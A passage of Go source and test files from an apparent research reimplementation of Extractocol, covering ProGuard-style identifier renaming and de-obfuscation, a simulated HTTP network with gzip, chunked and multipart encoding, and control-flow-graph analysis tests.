func TestObfuscatedLibraryBreaksThenDeobfRestores(t *testing.T) {
	// Obfuscate including the apache http library: analysis loses the
	// demarcation points entirely.
	obf := buildApp()
	Apply(obf, Options{KeepEntryPoints: true, ObfuscateLibraryPrefix: "org.apache.http"})
	broken := analyze(t, obf)
	if len(broken.Transactions) != 0 {
		t.Fatalf("expected no transactions with obfuscated library, got %d", len(broken.Transactions))
	}

	// De-obfuscation by signature similarity restores the mapping.
	recovered := Deobfuscate(obf, semmodel.Default())
	if len(recovered) == 0 {
		t.Fatal("no references recovered")
	}
	rep := analyze(t, obf)
	if len(rep.Transactions) != 1 {
		t.Fatalf("transactions after deobf = %d, want 1", len(rep.Transactions))
	}
	uri := rep.Transactions[0].URIRegex()
	if !strings.Contains(uri, "demo\\.example\\.com/v1/feed\\.json") {
		t.Fatalf("URI after deobf = %q", uri)
	}
}

func TestShortName(t *testing.T) {
	tests := map[int]string{0: "a", 1: "b", 25: "z", 26: "aa", 27: "ab", 52: "ba"}
	for i, want := range tests {
		if got := shortName(i); got != want {
			t.Errorf("shortName(%d) = %q, want %q", i, got, want)
		}
	}
}

func TestFrameworkCallbacksKept(t *testing.T) {
	p := buildApp()
	Apply(p, Options{})
	// onCreate must survive by keep-rule even without KeepEntryPoints.
	found := false
	for _, c := range p.Classes() {
		if c.Method("onCreate") != nil {
			found = true
		}
	}
	if !found {
		t.Fatal("onCreate was renamed; framework callbacks must be kept")
	}
}

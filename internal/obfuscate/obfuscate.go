// Package obfuscate implements a ProGuard-like identifier renamer for IR
// programs and the signature-similarity de-obfuscation mapper of §3.4.
//
// Renaming replaces app class, method and field names with short opaque
// identifiers (a, b, c, ...), exactly the transformation ProGuard applies.
// Library references (the modeled API surface) are left intact by default,
// matching the paper's observation that "many real-world apps do not
// obfuscate library codes, even when their own code is obfuscated"; an
// option also renames a designated library namespace so the de-obfuscation
// map can be exercised.
package obfuscate

import (
	"fmt"
	"sort"
	"strings"

	"extractocol/internal/callgraph"
	"extractocol/internal/ir"
)

// Options configures obfuscation.
type Options struct {
	// KeepEntryPoints preserves entry-point method names (Android keeps
	// manifest-registered components resolvable). Class names still change
	// unless the entry class is a manifest component; we keep both names
	// stable for entry methods, as ProGuard keep-rules do.
	KeepEntryPoints bool
	// ObfuscateLibraryPrefix, when non-empty, also renames library classes
	// under this prefix (simulating an app that shipped an obfuscated
	// third-party HTTP library).
	ObfuscateLibraryPrefix string
}

// Mapping records original -> obfuscated identifiers so tests can verify
// behavior and the de-obfuscation mapper can be validated.
type Mapping struct {
	Classes map[string]string // original class -> new class
	Methods map[string]string // original "Class.method" -> new "Class.method"
	Fields  map[string]string // original "Class.field" -> new field name
}

// Apply obfuscates p in place and returns the mapping.
func Apply(p *ir.Program, opts Options) *Mapping {
	m := &Mapping{
		Classes: map[string]string{},
		Methods: map[string]string{},
		Fields:  map[string]string{},
	}
	keepMethods := map[string]bool{}
	if opts.KeepEntryPoints {
		for _, ep := range p.Manifest.EntryPoints {
			keepMethods[ep.Method] = true
		}
	}

	// Stable ordering: classes in declaration order.
	var renamed []*ir.Class
	classIdx := 0
	for _, c := range p.Classes() {
		if c.Library && (opts.ObfuscateLibraryPrefix == "" ||
			!strings.HasPrefix(c.Name, opts.ObfuscateLibraryPrefix)) {
			continue
		}
		if !c.Library || strings.HasPrefix(c.Name, opts.ObfuscateLibraryPrefix) {
			newName := obfName(p.Manifest.Package, classIdx)
			classIdx++
			m.Classes[c.Name] = newName
			renamed = append(renamed, c)
		}
	}

	// Method and field renames per class.
	for _, c := range renamed {
		mi, fi := 0, 0
		for _, meth := range c.Methods {
			old := c.Name + "." + meth.Name
			if meth.Name == "<init>" || isFrameworkCallback(meth.Name) || keepMethods[old] {
				m.Methods[old] = m.Classes[c.Name] + "." + meth.Name
				continue
			}
			newName := shortName(mi)
			mi++
			m.Methods[old] = m.Classes[c.Name] + "." + newName
		}
		for _, f := range c.Fields {
			m.Fields[c.Name+"."+f.Name] = shortName(fi)
			fi++
		}
	}

	// Library classes usually exist only as symbolic references (their
	// bodies live in the platform, not the APK): renaming a library
	// namespace means renaming those references.
	if opts.ObfuscateLibraryPrefix != "" {
		libMembers := map[string]map[string]bool{} // class -> member names
		collect := func(ref string) {
			if !strings.HasPrefix(ref, opts.ObfuscateLibraryPrefix) {
				return
			}
			cls, name, ok := ir.SplitRef(ref)
			if !ok {
				return
			}
			if libMembers[cls] == nil {
				libMembers[cls] = map[string]bool{}
			}
			libMembers[cls][name] = true
		}
		for _, c := range p.Classes() {
			for _, meth := range c.Methods {
				for i := range meth.Instrs {
					in := &meth.Instrs[i]
					switch in.Op {
					case ir.OpInvoke:
						collect(in.Sym)
					case ir.OpNew:
						if strings.HasPrefix(in.Sym, opts.ObfuscateLibraryPrefix) {
							if libMembers[in.Sym] == nil {
								libMembers[in.Sym] = map[string]bool{}
							}
						}
					}
				}
			}
		}
		libClasses := make([]string, 0, len(libMembers))
		for cls := range libMembers {
			libClasses = append(libClasses, cls)
		}
		sort.Strings(libClasses)
		for _, cls := range libClasses {
			if _, done := m.Classes[cls]; done {
				continue
			}
			newCls := obfName("lib", classIdx)
			classIdx++
			m.Classes[cls] = newCls
			members := make([]string, 0, len(libMembers[cls]))
			for name := range libMembers[cls] {
				members = append(members, name)
			}
			sort.Strings(members)
			mi := 0
			for _, name := range members {
				if name == "<init>" {
					m.Methods[cls+"."+name] = newCls + ".<init>"
					continue
				}
				m.Methods[cls+"."+name] = newCls + "." + shortName(mi)
				mi++
			}
		}
	}

	rewrite(p, m)
	p.Manifest.Obfuscated = true
	return m
}

// isFrameworkCallback reports method names the Android framework invokes by
// name; ProGuard keep-rules preserve them.
func isFrameworkCallback(name string) bool {
	switch name {
	case "onCreate", "onResponse", "doInBackground", "onPostExecute", "run",
		"onClick", "onLocationChanged":
		return true
	}
	return strings.HasPrefix(name, "on")
}

func obfName(pkg string, i int) string {
	return fmt.Sprintf("%s.%s", pkg, shortName(i))
}

// shortName yields a, b, ..., z, aa, ab, ...
func shortName(i int) string {
	var b []byte
	for {
		b = append([]byte{byte('a' + i%26)}, b...)
		i = i/26 - 1
		if i < 0 {
			break
		}
	}
	return string(b)
}

// rewrite applies the mapping to every reference in the program.
func rewrite(p *ir.Program, m *Mapping) {
	newClass := func(name string) string {
		if n, ok := m.Classes[name]; ok {
			return n
		}
		return name
	}
	newMethodRef := func(ref string) string {
		if n, ok := m.Methods[ref]; ok {
			return n
		}
		// A reference to an unrenamed method of a renamed class.
		cls, name, ok := ir.SplitRef(ref)
		if ok {
			if nc, renamedCls := m.Classes[cls]; renamedCls {
				return nc + "." + name
			}
		}
		return ref
	}
	newFieldName := func(cls, field string) string {
		// Walk the hierarchy for the declaring class.
		for c := p.Class(cls); c != nil; c = p.Class(c.Super) {
			if c.Field(field) != nil {
				if n, ok := m.Fields[c.Name+"."+field]; ok {
					return n
				}
				return field
			}
			if c.Super == "" {
				break
			}
		}
		if n, ok := m.Fields[cls+"."+field]; ok {
			return n
		}
		return field
	}

	for _, c := range p.Classes() {
		for _, meth := range c.Methods {
			// Receiver types must be inferred before any reference in this
			// method is rewritten: field renames resolve against the
			// *object's* class, not the class containing the access.
			types := callgraph.InferTypes(p, meth)
			for i := range meth.Instrs {
				in := &meth.Instrs[i]
				switch in.Op {
				case ir.OpNew:
					in.Sym = newClass(in.Sym)
				case ir.OpInvoke:
					in.Sym = newMethodRef(in.Sym)
				case ir.OpFieldGet, ir.OpFieldPut:
					base := c.Name
					if in.A >= 0 && in.A < len(types) && types[in.A] != "" {
						base = types[in.A]
					}
					in.Sym = newFieldName(base, in.Sym)
				case ir.OpStaticGet, ir.OpStaticPut:
					cls, f, ok := ir.SplitRef(in.Sym)
					if ok {
						in.Sym = newClass(cls) + "." + newFieldName(cls, f)
					}
				}
			}
			// Parameter and return types.
			for i, t := range meth.Params {
				meth.Params[i] = newClass(t)
			}
			meth.Return = newClass(meth.Return)
		}
	}

	// Rename declarations last (reference rewriting reads old names).
	for _, c := range p.Classes() {
		oldCls := c.Name
		for _, meth := range c.Methods {
			if n, ok := m.Methods[oldCls+"."+meth.Name]; ok {
				_, nm, _ := ir.SplitRef(n)
				meth.Name = nm
			}
		}
		for _, f := range c.Fields {
			if n, ok := m.Fields[oldCls+"."+f.Name]; ok {
				f.Name = n
			}
			f.Type = newClass(f.Type)
		}
		c.Super = newClass(c.Super)
		for i, ifc := range c.Interfaces {
			c.Interfaces[i] = newClass(ifc)
		}
	}
	// Rebuild the class index with new names, preserving the manifest and
	// resources, and remap entry-point references.
	classes := p.Classes()
	rebuilt := ir.NewProgram(p.Manifest.Package)
	rebuilt.Manifest = p.Manifest
	rebuilt.Resources = p.Resources
	for _, c := range classes {
		if n, ok := m.Classes[c.Name]; ok {
			c.Name = n
		}
		rebuilt.AddClass(c)
	}
	for i := range rebuilt.Manifest.EntryPoints {
		ep := &rebuilt.Manifest.EntryPoints[i]
		ep.Method = newMethodRef(ep.Method)
	}
	*p = *rebuilt
}

// SortedRenames lists "old -> new" method renames for diagnostics.
func (m *Mapping) SortedRenames() []string {
	out := make([]string, 0, len(m.Methods))
	for k, v := range m.Methods {
		if k != v {
			out = append(out, k+" -> "+v)
		}
	}
	sort.Strings(out)
	return out
}

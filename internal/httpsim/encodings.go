package httpsim

import (
	"bytes"
	"compress/gzip"
	"fmt"
	"io"
	"strconv"
	"strings"
)

// Wire-format helpers widening the protocol surface the simulated servers
// can express: gzip-compressed bodies, chunked transfer framing, and
// multipart/form-data request bodies. Clients see the framed bytes and must
// decode them through the matching stream decorators.

// GzipJSON builds a 200 JSON response whose body is gzip-compressed and
// carries Content-Encoding: gzip; clients read it through a GZIPInputStream.
func GzipJSON(body string) *Response {
	var buf bytes.Buffer
	zw := gzip.NewWriter(&buf)
	zw.Write([]byte(body))
	zw.Close()
	return &Response{Status: 200, Body: buf.String(), Type: "json",
		Headers: map[string]string{
			"Content-Type":     "application/json",
			"Content-Encoding": "gzip",
		}}
}

// ChunkedJSON builds a 200 JSON response framed as chunked transfer
// encoding: hex-size CRLF chunks of at most chunk bytes, ending with a
// zero-length chunk.
func ChunkedJSON(body string, chunk int) *Response {
	if chunk <= 0 {
		chunk = 8
	}
	var b strings.Builder
	for len(body) > 0 {
		n := chunk
		if n > len(body) {
			n = len(body)
		}
		fmt.Fprintf(&b, "%x\r\n%s\r\n", n, body[:n])
		body = body[n:]
	}
	b.WriteString("0\r\n\r\n")
	return &Response{Status: 200, Body: b.String(), Type: "json",
		Headers: map[string]string{
			"Content-Type":      "application/json",
			"Transfer-Encoding": "chunked",
		}}
}

// DecodeBody undoes the wire framing a response declares in its headers
// (chunked transfer encoding, then gzip content encoding) and reports
// whether any decoding applied. It is what the client-side stream
// decorators (GZIPInputStream, BufferedReader) perform.
func DecodeBody(r *Response) (string, bool) {
	body, decoded := r.Body, false
	if strings.EqualFold(r.Headers["Transfer-Encoding"], "chunked") {
		if d, ok := dechunk(body); ok {
			body, decoded = d, true
		}
	}
	if strings.EqualFold(r.Headers["Content-Encoding"], "gzip") {
		zr, err := gzip.NewReader(strings.NewReader(body))
		if err == nil {
			if d, err := io.ReadAll(zr); err == nil {
				body, decoded = string(d), true
			}
		}
	}
	return body, decoded
}

// dechunk parses chunked transfer framing.
func dechunk(s string) (string, bool) {
	var out strings.Builder
	for {
		nl := strings.Index(s, "\r\n")
		if nl < 0 {
			return "", false
		}
		n, err := strconv.ParseInt(s[:nl], 16, 32)
		if err != nil || n < 0 {
			return "", false
		}
		s = s[nl+2:]
		if n == 0 {
			return out.String(), true
		}
		if int(n)+2 > len(s) {
			return "", false
		}
		out.WriteString(s[:n])
		s = s[int(n)+2:]
	}
}

// MultipartBoundary is the fixed boundary the simulated clients use.
const MultipartBoundary = "----extractocol-boundary"

// MultipartBody renders multipart/form-data text parts.
func MultipartBody(parts [][2]string) string {
	var b strings.Builder
	for _, p := range parts {
		fmt.Fprintf(&b, "--%s\r\nContent-Disposition: form-data; name=%q\r\n\r\n%s\r\n",
			MultipartBoundary, p[0], p[1])
	}
	fmt.Fprintf(&b, "--%s--\r\n", MultipartBoundary)
	return b.String()
}

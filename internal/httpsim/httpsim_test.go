package httpsim

import (
	"fmt"
	"io"
	"net/http"
	"strings"
	"sync"
	"testing"
)

func demoNetwork() *Network {
	n := NewNetwork()
	s := NewServer("api.example.com")
	s.Handle("GET", "/v1/status", func(r *Request) *Response {
		return JSON(`{"ok":true}`)
	})
	s.Handle("POST", "/v1/login", func(r *Request) *Response {
		if !strings.Contains(r.Body, "user=") {
			return Error(400, "missing user")
		}
		return JSON(`{"token":"T1"}`)
	})
	s.HandlePrefix("GET", "/media/", func(r *Request) *Response {
		return Binary("BYTES:" + r.Path())
	})
	n.Register(s)
	return n
}

func TestRoutingExactAndPrefix(t *testing.T) {
	n := demoNetwork()
	resp := n.RoundTrip(&Request{Method: "GET", URL: "https://api.example.com/v1/status"})
	if resp.Status != 200 || resp.Type != "json" {
		t.Fatalf("status resp = %+v", resp)
	}
	if resp.RouteID != "GET api.example.com/v1/status" {
		t.Fatalf("route id = %q", resp.RouteID)
	}
	resp = n.RoundTrip(&Request{Method: "GET", URL: "https://api.example.com/media/x/y.mp4"})
	if resp.Status != 200 || resp.RouteID != "GET api.example.com/media/*" {
		t.Fatalf("media resp = %+v", resp)
	}
}

func TestMethodMismatch404(t *testing.T) {
	n := demoNetwork()
	resp := n.RoundTrip(&Request{Method: "DELETE", URL: "https://api.example.com/v1/status"})
	if resp.Status != 404 {
		t.Fatalf("status = %d, want 404", resp.Status)
	}
}

func TestUnknownHost502(t *testing.T) {
	n := demoNetwork()
	resp := n.RoundTrip(&Request{Method: "GET", URL: "https://other.example.com/"})
	if resp.Status != 502 {
		t.Fatalf("status = %d, want 502", resp.Status)
	}
}

func TestTraceRecordsInOrder(t *testing.T) {
	n := demoNetwork()
	n.RoundTrip(&Request{Method: "GET", URL: "https://api.example.com/v1/status"})
	n.RoundTrip(&Request{Method: "POST", URL: "https://api.example.com/v1/login", Body: "user=a&passwd=b"})
	tr := n.Trace()
	if len(tr) != 2 || tr[0].Seq != 1 || tr[1].Seq != 2 {
		t.Fatalf("trace = %+v", tr)
	}
	if tr[1].Response.RouteID != "POST api.example.com/v1/login" {
		t.Fatalf("route = %q", tr[1].Response.RouteID)
	}
	n.ClearTrace()
	if len(n.Trace()) != 0 {
		t.Fatal("trace not cleared")
	}
}

func TestRequestAccessors(t *testing.T) {
	r := &Request{Method: "GET", URL: "https://h.example.com/a/b?x=1&y=2"}
	if r.Host() != "h.example.com" || r.Path() != "/a/b" {
		t.Fatalf("host=%q path=%q", r.Host(), r.Path())
	}
	if r.Query().Get("y") != "2" {
		t.Fatalf("query = %v", r.Query())
	}
}

func TestConcurrentRoundTrips(t *testing.T) {
	n := demoNetwork()
	var wg sync.WaitGroup
	for i := 0; i < 50; i++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			n.RoundTrip(&Request{Method: "GET", URL: "https://api.example.com/v1/status"})
		}()
	}
	wg.Wait()
	if got := len(n.Trace()); got != 50 {
		t.Fatalf("trace entries = %d, want 50", got)
	}
}

func TestServeOverRealTCP(t *testing.T) {
	n := demoNetwork()
	srv, err := ListenAndServe(n)
	if err != nil {
		t.Fatal(err)
	}
	defer srv.Close()

	req, err := http.NewRequest("GET", fmt.Sprintf("http://%s/v1/status", srv.Addr), nil)
	if err != nil {
		t.Fatal(err)
	}
	req.Host = "api.example.com"
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	body, _ := io.ReadAll(resp.Body)
	if resp.StatusCode != 200 || string(body) != `{"ok":true}` {
		t.Fatalf("status=%d body=%q", resp.StatusCode, body)
	}
	if resp.Header.Get("X-Route-Id") != "GET api.example.com/v1/status" {
		t.Fatalf("route header = %q", resp.Header.Get("X-Route-Id"))
	}
	// The exchange must appear in the network trace.
	if len(n.Trace()) != 1 {
		t.Fatalf("trace = %d entries", len(n.Trace()))
	}
}

func TestDuplicateHostPanics(t *testing.T) {
	n := NewNetwork()
	n.Register(NewServer("dup.example.com"))
	defer func() {
		if recover() == nil {
			t.Fatal("expected panic on duplicate host")
		}
	}()
	n.Register(NewServer("dup.example.com"))
}

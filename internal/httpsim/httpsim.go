// Package httpsim provides the simulated server side of the evaluation:
// in-process HTTP servers (one per application backend), a virtual network
// routing requests by host, and a transaction recorder producing the
// traffic traces that the paper obtains with mitmproxy. The same servers
// can also be exposed over real TCP via net/http (see serve.go) so traces
// can be captured through an actual network stack.
package httpsim

import (
	"fmt"
	"net/url"
	"sort"
	"strings"
	"sync"
)

// Request is an application-level HTTP request.
type Request struct {
	Method  string
	URL     string // absolute: scheme://host/path?query
	Headers map[string]string
	Body    string
}

// Host returns the request's host component.
func (r *Request) Host() string {
	u, err := url.Parse(r.URL)
	if err != nil {
		return ""
	}
	return u.Host
}

// Path returns the request's path component.
func (r *Request) Path() string {
	u, err := url.Parse(r.URL)
	if err != nil {
		return ""
	}
	return u.Path
}

// Query returns the parsed query string.
func (r *Request) Query() url.Values {
	u, err := url.Parse(r.URL)
	if err != nil {
		return url.Values{}
	}
	return u.Query()
}

// Response is an application-level HTTP response.
type Response struct {
	Status  int
	Headers map[string]string
	Body    string
	// Type labels the body representation: "json", "xml", "text", "binary".
	Type string
	// RouteID names the server route that produced the response; it is the
	// ground-truth grouping used when counting unique messages in traces.
	RouteID string
}

// JSON builds a 200 JSON response.
func JSON(body string) *Response {
	return &Response{Status: 200, Body: body, Type: "json",
		Headers: map[string]string{"Content-Type": "application/json"}}
}

// XML builds a 200 XML response.
func XML(body string) *Response {
	return &Response{Status: 200, Body: body, Type: "xml",
		Headers: map[string]string{"Content-Type": "text/xml"}}
}

// Text builds a 200 plain-text response.
func Text(body string) *Response {
	return &Response{Status: 200, Body: body, Type: "text",
		Headers: map[string]string{"Content-Type": "text/plain"}}
}

// Binary builds a 200 binary response (media bytes).
func Binary(body string) *Response {
	return &Response{Status: 200, Body: body, Type: "binary",
		Headers: map[string]string{"Content-Type": "application/octet-stream"}}
}

// Error builds an error response.
func Error(status int, msg string) *Response {
	return &Response{Status: status, Body: msg, Type: "text"}
}

// Handler computes a response for a request.
type Handler func(*Request) *Response

type route struct {
	id     string
	method string
	path   string // exact path or prefix ending in '/'
	prefix bool
	h      Handler
}

// Server is one simulated application backend, routing by method and path.
type Server struct {
	Hostname string
	routes   []route
}

// NewServer creates a backend for the given host.
func NewServer(host string) *Server { return &Server{Hostname: host} }

// Handle registers an exact-path route. The route ID is "METHOD host path".
func (s *Server) Handle(method, path string, h Handler) {
	s.routes = append(s.routes, route{
		id: method + " " + s.Hostname + path, method: method, path: path, h: h,
	})
}

// HandlePrefix registers a prefix route matching any path below prefix.
func (s *Server) HandlePrefix(method, prefix string, h Handler) {
	s.routes = append(s.routes, route{
		id: method + " " + s.Hostname + prefix + "*", method: method, path: prefix, prefix: true, h: h,
	})
}

// dispatch finds the most specific matching route.
func (s *Server) dispatch(req *Request) *Response {
	path := req.Path()
	var best *route
	for i := range s.routes {
		rt := &s.routes[i]
		if rt.method != req.Method {
			continue
		}
		if rt.prefix {
			if strings.HasPrefix(path, rt.path) {
				if best == nil || len(rt.path) > len(best.path) {
					best = rt
				}
			}
		} else if rt.path == path {
			best = rt
			break
		}
	}
	if best == nil {
		return &Response{Status: 404, Body: "not found", Type: "text", RouteID: ""}
	}
	resp := best.h(req)
	if resp == nil {
		resp = Error(500, "handler returned nil")
	}
	if resp.RouteID == "" {
		resp.RouteID = best.id
	}
	return resp
}

// Transaction is one recorded request/response exchange.
type Transaction struct {
	Seq      int
	Request  *Request
	Response *Response
}

// Network is a virtual internet: servers indexed by host plus a recorder.
type Network struct {
	mu      sync.Mutex
	servers map[string]*Server
	trace   []*Transaction
	// Pushes queues server-initiated content-update events per app package
	// (consumed by the interpreter's server-push handling).
	pushes map[string][]string
}

// NewNetwork creates an empty network.
func NewNetwork() *Network {
	return &Network{servers: map[string]*Server{}, pushes: map[string][]string{}}
}

// Register adds a server; it panics on duplicate hosts (a corpus bug).
func (n *Network) Register(s *Server) {
	n.mu.Lock()
	defer n.mu.Unlock()
	if _, dup := n.servers[s.Hostname]; dup {
		panic(fmt.Sprintf("httpsim: duplicate host %s", s.Hostname))
	}
	n.servers[s.Hostname] = s
}

// RoundTrip routes the request to the host's server and records the
// exchange in the trace.
func (n *Network) RoundTrip(req *Request) *Response {
	n.mu.Lock()
	srv := n.servers[req.Host()]
	n.mu.Unlock()
	var resp *Response
	if srv == nil {
		resp = &Response{Status: 502, Body: "no route to host " + req.Host(), Type: "text"}
	} else {
		resp = srv.dispatch(req)
	}
	n.mu.Lock()
	n.trace = append(n.trace, &Transaction{Seq: len(n.trace) + 1, Request: req, Response: resp})
	n.mu.Unlock()
	return resp
}

// Trace returns a copy of the recorded transactions in order.
func (n *Network) Trace() []*Transaction {
	n.mu.Lock()
	defer n.mu.Unlock()
	out := make([]*Transaction, len(n.trace))
	copy(out, n.trace)
	return out
}

// ClearTrace discards recorded transactions (between fuzzing runs).
func (n *Network) ClearTrace() {
	n.mu.Lock()
	defer n.mu.Unlock()
	n.trace = nil
}

// Hosts returns the registered hostnames, sorted.
func (n *Network) Hosts() []string {
	n.mu.Lock()
	defer n.mu.Unlock()
	out := make([]string, 0, len(n.servers))
	for h := range n.servers {
		out = append(out, h)
	}
	sort.Strings(out)
	return out
}

package httpsim

import (
	"context"
	"fmt"
	"io"
	"net"
	"net/http"
	"strings"
	"time"
)

// TCPServer exposes a Network over a real loopback TCP listener using
// net/http, routing by Host header (the host's port is stripped before
// lookup). It exists so traces can also be produced through a genuine
// network stack; the in-process RoundTrip path is the default.
type TCPServer struct {
	Addr string // listen address, e.g. "127.0.0.1:43211"
	srv  *http.Server
	ln   net.Listener
}

// ListenAndServe starts serving the network on a random loopback port.
func ListenAndServe(n *Network) (*TCPServer, error) {
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		return nil, fmt.Errorf("httpsim: listen: %w", err)
	}
	t := &TCPServer{Addr: ln.Addr().String(), ln: ln}
	t.srv = &http.Server{
		Handler:           http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { serveHTTP(n, w, r) }),
		ReadHeaderTimeout: 5 * time.Second,
		ReadTimeout:       10 * time.Second,
		WriteTimeout:      10 * time.Second,
		IdleTimeout:       30 * time.Second,
	}
	go func() {
		// ErrServerClosed is the expected shutdown signal.
		_ = t.srv.Serve(ln)
	}()
	return t, nil
}

// Close shuts the server down gracefully.
func (t *TCPServer) Close() error {
	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Second)
	defer cancel()
	return t.srv.Shutdown(ctx)
}

func serveHTTP(n *Network, w http.ResponseWriter, r *http.Request) {
	body, err := io.ReadAll(io.LimitReader(r.Body, 1<<20))
	if err != nil {
		http.Error(w, "read error", http.StatusBadRequest)
		return
	}
	host := r.Host
	if i := strings.IndexByte(host, ':'); i >= 0 {
		host = host[:i]
	}
	u := "http://" + host + r.URL.RequestURI()
	req := &Request{
		Method:  r.Method,
		URL:     u,
		Headers: map[string]string{},
		Body:    string(body),
	}
	for k := range r.Header {
		req.Headers[k] = r.Header.Get(k)
	}
	resp := n.RoundTrip(req)
	for k, v := range resp.Headers {
		w.Header().Set(k, v)
	}
	w.Header().Set("X-Route-Id", resp.RouteID)
	w.WriteHeader(resp.Status)
	_, _ = io.WriteString(w, resp.Body)
}

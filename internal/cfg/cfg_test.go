package cfg

import (
	"testing"
	"testing/quick"

	"extractocol/internal/ir"
)

// diamond builds:
//
//	if p0 == 0 goto else
//	  r = "a"
//	  goto end
//	else: r = "b"
//	end: return r
func diamond(t *testing.T) *ir.Method {
	t.Helper()
	p := ir.NewProgram("t")
	c := p.AddClass(&ir.Class{Name: "t.C"})
	b := ir.NewMethod(c, "m", true, []string{"int"}, "java.lang.String")
	cond := b.Param(0)
	out := b.Reg()
	b.IfZ(cond, "else")
	a := b.ConstStr("a")
	b.MoveTo(out, a)
	b.Goto("end")
	b.Label("else")
	bb := b.ConstStr("b")
	b.MoveTo(out, bb)
	b.Label("end")
	b.Return(out)
	return b.Done()
}

func loopMethod(t *testing.T) *ir.Method {
	t.Helper()
	p := ir.NewProgram("t")
	c := p.AddClass(&ir.Class{Name: "t.C"})
	b := ir.NewMethod(c, "loop", true, []string{"int"}, "int")
	i := b.Param(0)
	b.Label("head")
	b.IfZ(i, "exit")
	one := b.ConstInt(1)
	dec := b.Binop("-", i, one)
	b.MoveTo(i, dec)
	b.Goto("head")
	b.Label("exit")
	b.Return(i)
	return b.Done()
}

func TestDiamondStructure(t *testing.T) {
	g := Build(diamond(t))
	if len(g.Blocks) != 4 {
		t.Fatalf("blocks = %d, want 4\n%s", len(g.Blocks), g)
	}
	entry := g.Entry()
	if len(entry.Succs) != 2 {
		t.Fatalf("entry succs = %v, want 2", entry.Succs)
	}
	// The final block must have two predecessors (join point).
	last := g.Blocks[len(g.Blocks)-1]
	if len(last.Preds) != 2 {
		t.Fatalf("join preds = %v, want 2", last.Preds)
	}
}

func TestReversePostOrderVisitsPredecessorsFirst(t *testing.T) {
	g := Build(diamond(t))
	rpo := g.ReversePostOrder()
	pos := map[int]int{}
	for i, b := range rpo {
		pos[b] = i
	}
	if len(rpo) != len(g.Blocks) {
		t.Fatalf("rpo covers %d of %d blocks", len(rpo), len(g.Blocks))
	}
	for _, b := range g.Blocks {
		for _, s := range b.Succs {
			// No back edges in a diamond: preds come first.
			if pos[b.ID] >= pos[s] {
				t.Errorf("block %d not before successor %d in %v", b.ID, s, rpo)
			}
		}
	}
}

func TestDominatorsDiamond(t *testing.T) {
	g := Build(diamond(t))
	idom := g.Dominators()
	if idom[0] != 0 {
		t.Fatalf("entry idom = %d", idom[0])
	}
	join := len(g.Blocks) - 1
	if idom[join] != 0 {
		t.Fatalf("join idom = %d, want 0 (entry)", idom[join])
	}
	if !Dominates(idom, 0, join) {
		t.Fatal("entry should dominate join")
	}
	if Dominates(idom, 1, join) {
		t.Fatal("then-branch must not dominate join")
	}
}

func TestLoopDetection(t *testing.T) {
	g := Build(loopMethod(t))
	loops := g.Loops()
	if len(loops) != 1 {
		t.Fatalf("loops = %d, want 1\n%s", len(loops), g)
	}
	l := loops[0]
	if !l.Body[l.Header] || !l.Body[l.Latch] {
		t.Fatal("loop body must contain header and latch")
	}
	lb := g.LoopBlocks()
	if !lb[l.Header] || !lb[l.Latch] {
		t.Fatalf("LoopBlocks = %v", lb)
	}
}

func TestNoLoopsInDiamond(t *testing.T) {
	g := Build(diamond(t))
	if loops := g.Loops(); len(loops) != 0 {
		t.Fatalf("diamond reported loops: %v", loops)
	}
}

func TestEmptyMethod(t *testing.T) {
	m := &ir.Method{Name: "stub", Class: &ir.Class{Name: "t.C"}}
	g := Build(m)
	if g.Entry() != nil || len(g.ReversePostOrder()) != 0 {
		t.Fatal("empty method should yield empty graph")
	}
}

func TestStraightLineSingleBlock(t *testing.T) {
	p := ir.NewProgram("t")
	c := p.AddClass(&ir.Class{Name: "t.C"})
	b := ir.NewMethod(c, "s", true, nil, "void")
	b.ConstStr("x")
	b.ConstStr("y")
	b.ReturnVoid()
	g := Build(b.Done())
	if len(g.Blocks) != 1 {
		t.Fatalf("blocks = %d, want 1", len(g.Blocks))
	}
	if len(g.Blocks[0].Succs) != 0 {
		t.Fatalf("straight-line block has succs %v", g.Blocks[0].Succs)
	}
}

func TestBlockOf(t *testing.T) {
	m := diamond(t)
	g := Build(m)
	for i := range m.Instrs {
		b := g.BlockOf(i)
		if i < b.Start || i >= b.End {
			t.Fatalf("instr %d mapped to block [%d,%d)", i, b.Start, b.End)
		}
	}
}

func TestUnreachableBlockStillInRPO(t *testing.T) {
	p := ir.NewProgram("t")
	c := p.AddClass(&ir.Class{Name: "t.C"})
	m := c.AddMethod(&ir.Method{Name: "u", Static: true, Return: "void", Registers: 1})
	m.Instrs = []ir.Instr{
		{Op: ir.OpReturn, Dst: ir.NoReg, A: ir.NoReg, B: ir.NoReg, Target: -1},
		{Op: ir.OpConstInt, Dst: 0, A: ir.NoReg, B: ir.NoReg, Target: -1}, // dead
		{Op: ir.OpReturn, Dst: ir.NoReg, A: ir.NoReg, B: ir.NoReg, Target: -1},
	}
	g := Build(m)
	rpo := g.ReversePostOrder()
	if len(rpo) != len(g.Blocks) {
		t.Fatalf("rpo %v misses unreachable blocks (have %d)", rpo, len(g.Blocks))
	}
}

// Property: for random branchy-but-valid methods, the reverse post-order
// covers every block exactly once, and the entry dominates every reachable
// block.
func TestCFGPropertiesOnRandomPrograms(t *testing.T) {
	build := func(branches []uint8, seed uint8) *ir.Method {
		p := ir.NewProgram("q")
		c := p.AddClass(&ir.Class{Name: "q.C"})
		b := ir.NewMethod(c, "m", true, []string{"int"}, "void")
		x := b.Param(0)
		// Emit a chain of labeled segments with random forward branches.
		n := len(branches)%6 + 2
		for i := 0; i < n; i++ {
			b.Label(lbl(i))
			b.ConstInt(int64(i))
			if i+1 < n && len(branches) > i && branches[i]%2 == 0 {
				// Conditional jump over the next segment.
				target := i + 2
				if target >= n {
					target = n - 1
				}
				b.IfZ(x, lbl(target))
			}
		}
		b.Label(lbl(n))
		b.ReturnVoid()
		return b.Done()
	}
	f := func(branches []uint8, seed uint8) bool {
		m := build(branches, seed)
		g := Build(m)
		rpo := g.ReversePostOrder()
		if len(rpo) != len(g.Blocks) {
			return false
		}
		seen := map[int]bool{}
		for _, b := range rpo {
			if seen[b] {
				return false
			}
			seen[b] = true
		}
		idom := g.Dominators()
		for _, b := range g.Blocks {
			if idom[b.ID] == -1 {
				continue // unreachable
			}
			if !Dominates(idom, 0, b.ID) {
				return false
			}
		}
		return true
	}
